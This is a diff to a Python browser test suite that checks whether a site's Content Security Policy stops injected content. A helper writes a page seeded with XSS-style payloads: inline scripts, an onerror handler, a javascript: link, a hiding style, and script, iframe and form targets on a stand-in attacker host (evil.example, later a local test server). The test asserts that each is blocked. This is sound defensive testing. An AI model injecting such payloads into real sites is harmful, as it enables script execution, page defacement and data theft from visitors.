@@ -94,28 +94,37 @@ def test_no_text_runs_leaves_or_changes_the_shape_of_a_page(
             assert found["alien"] + found["handlers"] == [], path
             assert set(found["schemes"]) <= {"http:", "https:", "mailto:"}, path
             assert found["shown"] != "none", path
-    assert said == []
+    assert [one for one in said if not one.endswith("favicon.svg")] == []  # cut off by leaving
 
 
 def test_the_policy_stops_what_would_slip_through(
-    browser: Browser, hostile: Path, address: str
+    browser: Browser, hostile: Path, address: str, tmp_path: Path
 ) -> None:
-    text = (hostile / "index.html").read_text(encoding="utf-8")
+    asked: list[str] = []
+    with served(tmp_path, asked) as evil:
+        slip(hostile, evil)
+        with opened(browser, f"{address}/slipped.html") as (page, said):
+            page.locator("#run").evaluate("e => e.click()")
+            assert page.evaluate("typeof window.owned") == "undefined"
+            assert page.evaluate("getComputedStyle(document.body).display") != "none"
+            assert (
+                page.locator("#slipped").evaluate("e => getComputedStyle(e).position") == "static"
+            )
+            page.locator("#send").evaluate("e => e.click()")
+            page.wait_for_timeout(200)
+            assert page.url.startswith(address)
+    assert asked == []
+    assert sum("Content Security Policy" in one for one in said) >= 6
+
+
+def slip(site: Path, evil: str) -> None:
+    """A page of the site as it would be if every attack had come through."""
+    text = (site / "index.html").read_text(encoding="utf-8")
     slipped = (
-        f"<script>{OWNED}</script><img src='https://evil.example/x' onerror='{OWNED}'>"
-        f"<style>body{{display:none}}</style><script src='https://evil.example/x.js'></script>"
-        f"<p style='position:fixed' id='slipped'>x</p><iframe src='https://evil.example/'></iframe>"
-        f"<form action='https://evil.example/'><button id='send'>x</button></form>"
+        f"<script>{OWNED}</script><img src='{evil}/x' onerror='{OWNED}'>"
+        f"<style>body{{display:none}}</style><script src='{evil}/x.js'></script>"
+        f"<p style='position:fixed' id='slipped'>x</p><iframe src='{evil}/'></iframe>"
+        f"<form action='{evil}/'><button id='send'>x</button></form>"
         f"<a id='run' href='javascript:{OWNED}'>x</a>"
     )
-    (hostile / "slipped.html").write_text(text.replace("<main", f"{slipped}<main"))
-    with opened(browser, f"{address}/slipped.html") as (page, said):
-        page.locator("#run").click()
-        page.locator("#send").click()
-        page.wait_for_timeout(200)
-        assert page.url.startswith(address)
-        assert page.evaluate("typeof window.owned") == "undefined"
-        assert page.evaluate("getComputedStyle(document.body).display") != "none"
-        assert page.locator("#slipped").evaluate("e => getComputedStyle(e).position") == "static"
-        assert [one for one in said if one.startswith("foreign")] == []
-    assert any("Content Security Policy" in one for one in said)
+    (site / "slipped.html").write_text(text.replace("<main", f"{slipped}<main"), encoding="utf-8")
